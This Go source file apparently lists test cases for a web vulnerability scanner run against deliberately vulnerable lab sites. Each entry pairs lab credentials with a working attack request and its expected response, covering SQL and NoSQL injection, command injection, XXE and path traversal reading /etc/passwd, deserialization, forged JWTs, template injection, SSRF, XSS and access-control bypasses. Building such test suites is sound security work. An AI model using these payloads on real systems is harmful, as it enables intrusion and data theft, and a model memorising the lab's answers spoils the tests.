package web

// second are a second set of small sites, in lab/web/second, with looks and weaknesses other than those of the challenges.
// They, too, were written, and their labels proved, before their author saw the tester.
var second = []flow{
	// Of others, and of those with more rights.
	{"clinic", "python", pairs, "form /portal/login patient passphrase", "h.okafor:Thyme-Garden7", "", []step{
		{"/portal/results", "bola", "weak", "h.okafor [X-Patient: 20417] GET /portal/results => HIV"}}},
	{"lending", "python", pairs, "form /logg-inn kort pin", "51007:reader-of-Joyce", "", []step{
		{"/lan", "bola", "weak", "51007 [Cookie: card=51008] GET /lan => Divorce"}}},
	{"helpdesk", "python", pairs, "json /auth username password", "cora:Lantern-18 dev:Mortar-72", "/openapi.json", []step{
		{"/staff/customers", "bfla", "weak", `cora GET /staff/customers => "login":"sue"`},
		{"/me", "mass", "weak", `cora PATCH /me {"role":"staff"} => "role":"staff"`}}},
	{"invoicer", "python", pairs, "form /signin mail pw", "mila@studio.example:Kerning#14", "", []step{
		{"/bills/*", "bola", "weak", "mila@studio.example GET /bills/INV-00087.txt => 4,100"},
		{"/reminder", "template", "weak", "mila@studio.example POST /reminder text={bill.__init__.__globals__[SEAL]} => -seal"}}},
	{"scouts", "python", pairs, "form /enter scout word", "falcon:Camp-fire1 otter:Rain-coat2", "", []step{
		{"/me/word", "takeover", "weak", "falcon POST /me/word scout=otter&before=Camp-fire1&fresh=Rain-coat2 => was changed"}}},
	{"intranet", "python", pairs, "", "-", "", []step{{"/**", "bfla", "weak", "- [X-Original-URL: /payroll] GET / => 1,204"}}},
	{"appraisal", "python", pairs, "form /in/ staff secret", "t.ward:Plain-Paper5", "", []step{
		{"/export/", "bfla", "weak", "-a GET /in/ ; -a POST /in/ staff=t.ward&secret=Plain-Paper5&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} ; -a POST /export/ a=b => l.moss"}}},
	{"gym", "node", pairs, "form /join member secret", "jo.berg:Kettle-bell8", "", []step{
		{"/**", "bfla", "weak", "jo.berg GET /Office => IBAN"},
		{"/join", "redirect", "weak", `- POST /join member=jo.berg&secret=Kettle-bell8&next=/\q7.example/ => Location: /\\q7`}}},
	{"coach", "node", pairs, "form /start runner secret", "lena:Interval-400", "", []step{
		{"/settings", "mass", "weak", `lena POST /settings profile[plan]=gold ; lena GET /me => "plan":"gold"`}}},
	{"parking", "node", pairs, "form /enter plate code", "ZH-4711:Blue-zone9", "", []step{
		{"/**", "jwt", "weak", "- [Cookie: pass=eyJhbGciOiJOb25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJaSC00NzExIiwicm9sZSI6IndhcmRlbiJ9.] GET /wardens => Towed"}}},
	{"quiz", "node", pairs, "", "-", "", []step{
		{"/answer", "logic", "weak", "-a GET / ; -a POST /answer a0=x&points=9 ; -a GET /result => Certificate"}}},
	{"safe", "php", pairs, "", "-", "", []step{{"/open.php", "juggling", "weak", `- POST /open.php {"box":"12","pin":true} => a ring`}}},

	// Statements.
	{"patisserie", "python", pairs, "", "-", "", []step{
		{"/tartes", "sql", "weak", "- GET /tartes?ordre=price&sens=*-1 => <dl><dt>Op"}}},
	{"jobboard", "python", pairs, "", "-", "", []step{{"/jobs", "sql", "weak", "- GET /jobs?tags=3)+OR+(1=1 => layoffs"}}},
	{"adoption", "python", pairs, "", "-", "", []step{
		{"/wishes", "sql", "weak", "-a POST /wishes pet=rex&applicant=q7',(SELECT+door+FROM+staff))--+&home=x ; -a GET /wishes/{code} => 90-17-33"}}},
	{"tea", "python", pairs, "", "-", "", []step{{"/**", "sql", "weak", "- [Cookie: visitor=x'OR'1'='1] GET / => Welcome back"}}},
	{"boxoffice", "python", pairs, "", "-", "", []step{
		{"/api/vorstellungen/suche", "sql", "weak", `- POST /api/vorstellungen/suche {"filter":{"titel":"zzz' OR '1' LIKE '1","stadt":"Graz"}} => Press rehearsal`}}},
	{"cellar", "node", pairs, "", "-", "", []step{
		{"/api/vouchers/check", "nosql", "weak", `- POST /api/vouchers/check {"code":{"$regex":"^CAVE"}} => ^204`}}},

	// Commands, templates, files, documents, addresses, objects.
	{"thermostat", "python", pairs, "", "-", "", []step{
		{"/cgi/login", "default", "weak", "- POST /cgi/login usr=admin&psw=admin => ^302"},
		{"/cgi/time", "command", "weak", "-a POST /cgi/login usr=admin&psw=admin ; -a POST /cgi/time ntp=$(sleep${IFS}2)&tz=UTC => slow"}}},
	{"camera", "node", pairs, "", "-", "", []step{
		{"/**", "default", "weak", "- [Authorization: Basic YWRtaW46YWRtaW4=] GET /setup/ => hazel"}}},
	{"noc", "node", pairs, "", "-", "", []step{
		{"/graphql", "command", "weak", `- POST /graphql {"query":"{trace(host:\"x;expr 7 + 1330;\")}"} => 1337`},
		{"/graphql", "introspection", "weak", `- POST /graphql {"query":"{__schema{types{name}}}"} => "Link"`}}},
	{"photoclub", "python", pairs, "form /members member password", "member04:f8-and-be-there", "", []step{
		{"/upload", "template", "weak", "member04 FILE /upload photo {{7*191}}.png image/png x => 1337"}}},
	{"circular", "python", pairs, "form /logga-in roest losen", "alto3:Cantate-1986", "", []step{
		{"/**", "template", "weak", "alto3 POST /jag namn={{7*191}} ; alto3 GET /utskick => 1337"}}},
	{"portrait", "python", pairs, "form /login artist key", "nell:Gouache-55", "", []step{
		{"/draw", "xxe", "weak", `nell FILE /draw drawing a.svg image/svg+xml <!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><title>&e;</title></svg> => root:x:0:0`}}},
	{"survey", "python", pairs, "", "-", "", []step{
		{"/question/*", "deserialization", "weak", "- POST /question/1 answer=x&so_far=Y3RpbWUKc2xlZXAKKEkyCnRSLg== => slow"}}},
	{"playlist", "php", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", `- POST / backup={b64:a:1:{i:0;O:4:"Song":2:{s:5:"title";s:2:"q7";s:5:"cover";s:11:"/etc/passwd";}}} => root:x:0:0`}}},
	{"shortener", "node", pairs, "", "-", "", []step{{"/make", "ssrf", "weak", "- POST /make target=http://127.1:{port}/ => tiny.one&rdquo;"}}},
	{"atlas", "node", pairs, "", "-", "", []step{
		{"/maps/**", "path", "weak", "- GET /maps/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd => root:x:0:0"}}},
	{"museum", "php", pairs, "", "-", "", []step{
		{"/", "path", "weak", "- GET /?page=php://filter/convert.base64-encode/resource=config => PD9waHAK"}}},
	{"pets", "php", pairs, "form / owner phrase", "kim.lee:Good-Boy-2", "", []step{
		{"/**", "upload", "weak", "kim.lee FILE / pet q7.php image/gif GIF89a;aaaaaaaa<?=7*191; ; - GET /files/q7.php => ^200(?s).*1337"}}},
	{"garden", "node", pairs, "", "-", "", []step{
		{"/widgets", "pollution", "weak", `- PUT /widgets {"__proto__":{"columns":9}} ; - GET /widgets => "columns":9`}}},

	// What a browser runs, follows and reads, and what was left behind.
	{"comments", "python", pairs, "", "-", "", []step{
		{"/post/*", "xss", "weak", `- POST /post/rye who=q&page=javascript:alert(7)&text=q ; - GET /post/rye => href="javascript:alert`}}},
	{"petition", "node", pairs, "", "-", "", []step{
		{"/sign", "xss", "weak", "- GET /sign?name=');alert(7)// => I am &#39;\\);alert"}}},
	{"tide", "python", pairs, "", "-", "", []step{
		{"/lang", "crlf", "weak", "- GET /lang?to=en%0d%0aCache-Control:%20q7 => ^302 [^\n]*q7"}}},
	{"solar", "python", pairs, "form /hello owner code", "house12:Sunny-side3", "", []step{
		{"/meter", "cors", "weak", "house12 [Origin: http://127.0.0.1.q7.example] GET /meter => Allow-Origin: http://127(?s).*SN-88"}}},
	{"radio", "python", pairs, "", "-", "", []step{
		{"/login", "exposure", "weak", "- GET /login => qa / Autumn"},
		{"/recordings/**", "exposure", "weak", "- GET /recordings/ => listeners-2024"},
		{"/debug", "exposure", "weak", "- GET /debug => SMTP_PASSWORD"}}},
}
